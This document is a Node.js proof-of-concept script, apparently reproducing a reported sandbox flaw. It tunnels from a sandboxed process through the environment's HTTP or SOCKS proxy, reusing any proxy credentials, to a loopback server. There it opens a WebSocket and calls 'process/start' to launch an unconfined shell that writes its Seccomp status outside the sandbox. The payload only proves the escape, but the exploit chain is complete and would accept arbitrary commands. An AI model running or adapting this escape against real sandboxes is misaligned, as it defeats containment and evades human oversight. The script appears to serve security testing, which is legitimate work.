// The chain of issue 67's first finding, as a sandboxed process runs it: through
// the managed proxy its environment names (HTTP_PROXY's CONNECT, or ALL_PROXY's
// SOCKS5 CONNECT, with the credential the URL carries, if any), to the server it
// runs under on host loopback; a WebSocket upgrade there, `initialize`, and
// `process/start` of an unconfined `sh` that copies its own /proc/self/status
// lines Seccomp and NoNewPrivs to a file outside the sandbox's writable roots.
// Node's own modules only (no WebSocket client in Node 20): frames by hand.
// Prints each step's outcome, one line each; stops at the first that fails.
//
//   node ownServerThroughProxy.cjs http|socks|direct TARGET_HOST SERVER_PORT|proxy OUTPUT_FILE
//
// `proxy` as the port aims at the proxy's own port instead (one of the
// server's listeners too). `direct` ignores the proxy variables, as a program
// under transparent TCP may (issue 82): a name is asked of the sandbox's
// resolver (127.0.0.53, A record) rather than looked up in /etc/hosts, and the
// address it answers is connected to with a plain connect().
"use strict"
const Net = require("node:net")
const Crypto = require("node:crypto")

const Dgram = require("node:dgram")

const [mode, targetHost, portText, outputFile] = process.argv.slice(2)
const proxy = mode === "direct" ? undefined : new URL(mode === "socks" ? process.env.ALL_PROXY : process.env.HTTP_PROXY)
const targetPort = Number(portText === "proxy" ? proxy.port : portText)
const user = proxy === undefined ? "" : decodeURIComponent(proxy.username)
const password = proxy === undefined ? "" : decodeURIComponent(proxy.password)

/** The IPv4 address the sandbox's resolver (127.0.0.53) answers for `name`, or the rcode it answered instead. */
const resolveAtSandbox = (name) =>
  new Promise((resolve, reject) => {
    const socket = Dgram.createSocket("udp4")
    const labels = name.split(".").map((label) => Buffer.concat([Buffer.from([label.length]), Buffer.from(label)]))
    const question = Buffer.concat([Buffer.from([0x82, 0x82, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]), ...labels, Buffer.from([0, 0, 1, 0, 1])])
    socket.once("error", reject)
    socket.once("message", (answer) => {
      socket.close()
      const rcode = answer[3] & 15
      if (rcode !== 0 || answer.readUInt16BE(6) === 0) return reject(new Error(`resolver: rcode ${rcode}, ${answer.readUInt16BE(6)} answers`))
      resolve([...answer.subarray(-4)].join("."))
    })
    socket.send(question, 53, "127.0.0.53")
  })

/** Reads a socket as it comes: `take(n)` bytes, or `head()` up to an empty line. */
const readerOf = (socket) => {
  let held = Buffer.alloc(0)
  let ended = false
  let why = "closed"
  let wake = () => {}
  socket.on("data", (chunk) => {
    held = Buffer.concat([held, chunk])
    wake()
  })
  const end = () => {
    ended = true
    wake()
  }
  socket.on("close", end)
  socket.on("error", (error) => {
    why = error.code ?? error.message
    end()
  })
  const until = async (size) => {
    for (;;) {
      const length = size(held)
      if (length >= 0) {
        const taken = held.subarray(0, length)
        held = held.subarray(length)
        return taken
      }
      if (ended) throw new Error(`${why} after ${JSON.stringify(held.toString("latin1"))}`)
      await new Promise((resolve) => (wake = resolve))
    }
  }
  return {
    take: (count) => until((bytes) => bytes.length >= count ? count : -1),
    head: () => until((bytes) => {
      const at = bytes.indexOf("\r\n\r\n")
      return at === -1 ? -1 : at + 4
    })
  }
}

/** An IPv6 address's 16 bytes (`::` expanded; no IPv4 tail). */
const ipv6Bytes = (address) => {
  const [head, tail] = address.split("::")
  const groupsOf = (part) => part === undefined || part === "" ? [] : part.split(":").map((group) => Number.parseInt(group, 16))
  const left = groupsOf(head)
  const right = groupsOf(tail)
  const groups = [...left, ...Array(8 - left.length - right.length).fill(0), ...right]
  return Buffer.from(groups.flatMap((group) => [group >> 8, group & 0xff]))
}

/** A masked text frame (a client's must be masked). */
const frameOf = (message) => {
  const payload = Buffer.from(JSON.stringify(message))
  const length = payload.length < 126 ? Buffer.from([0x80 | payload.length]) : Buffer.from([0x80 | 126, payload.length >> 8, payload.length & 0xff])
  const mask = Crypto.randomBytes(4)
  return Buffer.concat([Buffer.from([0x81]), length, mask, payload.map((byte, index) => byte ^ mask[index % 4])])
}

/** The next text frame's message (the server's frames are not masked). */
const nextMessage = async (reader) => {
  for (;;) {
    const [first, second] = await reader.take(2)
    let length = second & 0x7f
    if (length === 126) length = (await reader.take(2)).readUInt16BE(0)
    else if (length === 127) length = Number((await reader.take(8)).readBigUInt64BE(0))
    const payload = await reader.take(length)
    if ((first & 0x0f) === 1) return JSON.parse(payload.toString())
  }
}

const main = async () => {
  const authority = `${Net.isIPv6(targetHost) ? `[${targetHost}]` : targetHost}:${targetPort}`
  const address = mode !== "direct" ? proxy.hostname : Net.isIP(targetHost) !== 0 ? targetHost : await resolveAtSandbox(targetHost)
  if (mode === "direct") console.log(`resolved: ${targetHost} ${address}`)
  const socket = Net.connect(mode === "direct" ? targetPort : Number(proxy.port), address)
  const reader = readerOf(socket)
  await new Promise((resolve, reject) => {
    socket.once("connect", resolve)
    socket.once("error", reject)
  })
  console.log(`target: ${authority}`)
  if (mode === "direct") {
    console.log(`connected: ${address}:${targetPort}`)
  } else if (mode === "socks") {
    socket.write(Buffer.from([5, 1, user === "" ? 0 : 2]))
    const [, method] = await reader.take(2)
    if (method === 2) {
      socket.write(Buffer.concat([Buffer.from([1, user.length]), Buffer.from(user), Buffer.from([password.length]), Buffer.from(password)]))
      console.log(`socks auth: ${(await reader.take(2))[1]}`)
    }
    const address = Net.isIPv4(targetHost)
      ? Buffer.from([1, ...targetHost.split(".").map(Number)])
      : Net.isIPv6(targetHost)
      ? Buffer.concat([Buffer.from([4]), ipv6Bytes(targetHost)])
      : Buffer.concat([Buffer.from([3, targetHost.length]), Buffer.from(targetHost)])
    socket.write(Buffer.concat([Buffer.from([5, 1, 0]), address, Buffer.from([targetPort >> 8, targetPort & 0xff])]))
    const reply = await reader.take(10)
    console.log(`socks reply: ${reply[1]}`)
    if (reply[1] !== 0) return
  } else {
    const credential = user === "" ? "" : `Proxy-Authorization: Basic ${Buffer.from(`${user}:${password}`).toString("base64")}\r\n`
    socket.write(`CONNECT ${authority} HTTP/1.1\r\nHost: ${authority}\r\n${credential}\r\n`)
    const status = (await reader.head()).toString("latin1").split("\r\n")[0]
    console.log(`connect: ${status}`)
    if (!/^HTTP\/1\.[01] 200/.test(status)) return
  }
  socket.write(
    `GET / HTTP/1.1\r\nHost: ${authority}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n` +
      `Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: ${Crypto.randomBytes(16).toString("base64")}\r\n\r\n`
  )
  const upgraded = (await reader.head()).toString("latin1").split("\r\n")[0]
  console.log(`upgrade: ${upgraded}`)
  if (!upgraded.includes(" 101 ")) return
  const call = async (id, method, params) => {
    socket.write(frameOf({ id, method, params }))
    for (;;) {
      const message = await nextMessage(reader)
      if (message.id === id) return message
    }
  }
  const initialized = await call(1, "initialize", { clientName: "escape" })
  console.log(`initialize: ${initialized.error === undefined ? "ok" : JSON.stringify(initialized.error)}`)
  socket.write(frameOf({ method: "initialized", params: {} }))
  const started = await call(2, "process/start", {
    processId: "unconfined",
    argv: ["sh", "-c", `grep -E '^(Seccomp|NoNewPrivs):' /proc/self/status > ${outputFile}`],
    // A URI, which the reference requires (a plain path is -32602 there).
    cwd: "file:///",
    env: { PATH: "/usr/bin:/bin" },
    tty: false
  })
  console.log(`process/start: ${JSON.stringify(started.error ?? started.result)}`)
  if (started.error !== undefined) return
  for (;;) {
    const message = await nextMessage(reader)
    if (message.method === "process/closed") break
  }
  console.log("unconfined process closed")
}

main().then(
  () => process.exit(0),
  (error) => {
    console.log(`failed: ${error.message}`)
    process.exit(0)
  }
)
